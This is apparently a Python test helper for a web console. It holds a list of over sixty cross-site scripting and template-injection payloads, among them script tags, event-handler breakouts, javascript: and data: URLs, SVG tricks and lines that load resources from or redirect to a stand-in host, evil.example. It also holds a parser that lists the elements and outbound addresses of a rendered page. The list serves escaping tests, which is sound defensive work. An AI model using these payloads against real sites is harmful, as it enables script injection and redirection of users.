"""Texts that would run, or break out of where they stand, on a page that forgets to escape; and what a page consists of."""

from html.parser import HTMLParser

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onstart",
)
TEXTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script>", "<script type=module>alert(1)</script>",
    *(f"<img src=x {event}=alert(1)>" for event in _EVENTS[:4]), *(f'" {event}="alert(1)' for event in _EVENTS), *(f"' {event}='alert(1)" for event in _EVENTS[:4]),
    *(f"` {event}=alert(1) x=`" for event in _EVENTS[:2]), '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>", "</title><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>", "</option></select><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>", "</svg><script>alert(1)</script>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='data:text/html,x'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=csrf></form>", "<button formaction='javascript:alert(1)'>x</button>", "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<style>*{background:url(//evil.example/x)}</style>", "<div style='position:fixed;inset:0'>x</div>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "{0.__class__}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "+ADw-script+AD4-alert(1)", "<img src=x data-hx-on:click=alert(1) data-hx-get=//evil.example/>",
    "\u202e<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "<<script>alert(1)//<</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--<img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>", "<x-thing onclick=alert(1)>x</x-thing>",
)  # fmt: skip
"""More than sixty."""


class _Parts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, str]] = set()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element, and its attributes."""
        self.found |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        self.addresses |= {
            (value or "").partition("?")[0].strip()[:12]
            for name, value in attrs
            if name in ("href", "src", "action", "formaction")
        }

    def handle_comment(self, data: str) -> None:
        """A comment: there is none."""
        self.found.add(("!--", data))


def parts(page: str) -> set[tuple[str, str]]:
    """What elements a page consists of, and which attributes these have."""
    parser = _Parts()
    parser.feed(page)
    parser.close()
    return parser.found


def leads_out(page: str) -> set[str]:
    """How addresses begin that are none of the console's own."""
    parser = _Parts()
    parser.feed(page)
    parser.close()
    return {one for one in parser.addresses if not one.startswith(("/console/", "?", "#")) and one != ""}
